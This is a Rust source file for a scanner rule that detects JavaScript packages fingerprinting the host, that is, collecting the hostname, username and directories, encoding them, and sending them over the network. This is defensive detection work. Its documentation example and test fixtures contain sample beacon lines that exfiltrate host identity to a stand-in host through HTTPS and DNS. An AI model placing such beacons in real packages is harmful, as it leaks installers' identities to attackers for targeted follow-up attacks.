use std::collections::BTreeSet;

use crate::context::FileContext;
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};

/// Calls and members that identify the machine or the person.
const PERSONAL_SOURCES: &[&str] = &[
    "os.hostname",
    "os.userInfo",
    "os.networkInterfaces",
    "dns.getServers",
    "os.homedir",
    "process.cwd",
    "os.userInfo.username",
    "process.env.USER",
    "process.env.USERNAME",
    "process.env.COMPUTERNAME",
    "process.env.HOSTNAME",
    "process.env.npm_package_name",
];

declare_rule! {
    /// ### What it does
    /// Finds files that collect identifying facts about the host (hostname, user name, home and
    /// working directories, network interfaces, DNS servers), encode or serialise them, and make
    /// network or DNS requests: three sources (one of them a real identifier such as the
    /// hostname or user name) with a network call is medium, serialised ones high.
    ///
    /// ### Why is this bad?
    /// This is the beacon of dependency-confusion and reconnaissance packages (hundreds of
    /// `99.x` "research" packages, the 2024 `persona-tool` DNS exfiltration): it tells the
    /// attacker which company installed the package before the next stage is sent.
    ///
    /// ### Examples
    /// Incorrect:
    /// ```js
    /// https.get('https://x.example/?d=' + Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, c: process.cwd() })).toString('hex'));
    /// ```
    /// Correct:
    /// ```js
    /// const cacheDir = path.join(os.homedir(), '.cache', 'tool');
    /// ```
    HostFingerprinting, "host-fingerprinting", Credentials,
    tokens = &["os.", "homedir", "process", "navigator", "http", "fetch", "XMLHttpRequest", "WebSocket", "net", "dgram", "dns"]
}

impl Rule for HostFingerprinting {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        let Some(facts) = file.js else { return };
        let Some(network) = file.network_calls().next() else {
            return;
        };
        let mut found: Vec<(usize, &str)> = facts
            .calls
            .iter()
            .filter(|call| PERSONAL_SOURCES.contains(&call.callee.as_str()))
            .map(|call| (call.offset as usize, call.callee.as_str()))
            .chain(
                facts
                    .members
                    .iter()
                    .filter(|member| PERSONAL_SOURCES.contains(&member.path.as_str()))
                    .map(|member| (member.offset as usize, member.path.as_str())),
            )
            .collect();
        found.sort_unstable();
        // The sources must be gathered together (within ~3 KB), not scattered over a bundle.
        let mut sources = BTreeSet::new();
        for (index, (offset, _)) in found.iter().enumerate() {
            let cluster: BTreeSet<&str> = found[index..]
                .iter()
                .take_while(|(other, _)| other - offset <= 3000)
                .map(|(_, source)| *source)
                .collect();
            if cluster.len() > sources.len() {
                sources = cluster;
            }
        }
        // `os.homedir` and `process.cwd` alone are everyday calls; require a real identifier.
        let identifying = sources.iter().any(|source| {
            matches!(
                *source,
                "os.hostname"
                    | "os.userInfo"
                    | "os.networkInterfaces"
                    | "dns.getServers"
                    | "os.userInfo.username"
                    | "process.env.COMPUTERNAME"
                    | "process.env.HOSTNAME"
            )
        });
        if sources.len() < 3 || !identifying {
            return;
        }
        let serialises = facts.calls.iter().any(|call| {
            matches!(
                call.callee.as_str(),
                "JSON.stringify" | "querystring.stringify" | "btoa"
            ) || call.callee.ends_with("toString")
                && call
                    .arguments
                    .first()
                    .and_then(|argument| argument.constant.as_deref())
                    .is_some_and(|encoding| encoding == "hex" || encoding == "base64")
        });
        let list: Vec<&str> = sources.into_iter().collect();
        let severity = if serialises {
            Severity::High
        } else {
            Severity::Medium
        };
        out.push(file.finding(
            &Self::META,
            severity,
            Confidence::Medium,
            Some(network.offset as usize),
            format!(
                "collects host identity ({}) and makes network requests",
                list.join(", ")
            ),
            None,
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::test_rule;

    #[test]
    fn test() {
        let pass = vec![
            "const os = require('os'); const dir = require('path').join(os.homedir(), '.cache');"
                .into(),
            "const os = require('os'); console.log(os.hostname(), process.cwd());".into(),
        ];
        let fail = vec![
            "const os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, c: process.cwd() }); https.get('https://x.example/?d=' + Buffer.from(d).toString('hex'));".into(),
            "const os = require('os'); const dns = require('dns'); dns.lookup(os.hostname() + '.' + dns.getServers()[0] + process.cwd() + '.x.example', () => {});".into(),
        ];
        test_rule(HostFingerprinting::META.name, pass, fail);
    }
}
